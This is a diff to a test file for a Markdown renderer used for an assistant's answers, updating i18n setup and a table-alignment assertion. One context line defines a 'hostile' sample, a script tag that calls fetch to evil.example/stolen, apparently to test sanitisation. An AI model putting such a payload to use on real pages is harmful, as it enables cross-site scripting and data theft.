@@ -1,6 +1,6 @@
 import { render, screen } from '@testing-library/react'
 import { beforeAll, describe, expect, it, vi } from 'vitest'
-import { startI18n } from '../../../lib/i18n.ts'
+import { loadAreas, startI18n } from '../../../lib/i18n.ts'
 import { harmless, piecesOf, withAnchors } from './anchors.ts'
 import { blockReader } from './blocks.ts'
 import { AnchorContext, Markdown } from './markdown.tsx'
@@ -34,7 +34,10 @@ const hostile = `<script>fetch('https://evil.example/stolen')</script><img src="
 \`\`\``
 
 describe('the Markdown of an answer', () => {
-  beforeAll(() => startI18n('es'))
+  beforeAll(async () => {
+    await startI18n('es')
+    await loadAreas(['assistant'])
+  })
 
   it('is drawn as what it is', () => {
     const box = show('## Título\n\nUno **dos** *tres* ~~cuatro~~ `cinco` &amp; \\*seis\\*\n\n3. a\n4. b\n   - c\n\n| x | y |\n|---|--:|\n| 1 | 2 |\n\n> cita\n\n---\n\n- [x] hecho')
@@ -42,7 +45,7 @@ describe('the Markdown of an answer', () => {
     expect(box.querySelector('p')?.textContent).toBe('Uno dos tres cuatro cinco & *seis*')
     expect(box.querySelector('ol')?.start).toBe(3)
     expect(box.querySelectorAll('ol ul li')).toHaveLength(1)
-    expect(box.querySelectorAll('td')).toHaveLength(2)
+    expect([...box.querySelectorAll('td')].map((cell) => [cell.textContent, cell.style.textAlign])).toEqual([['1', 'left'], ['2', 'right']])
     expect(box.querySelector('blockquote')?.textContent).toBe('cita')
     expect(screen.getByText(/☑/)).toBeTruthy()
   })
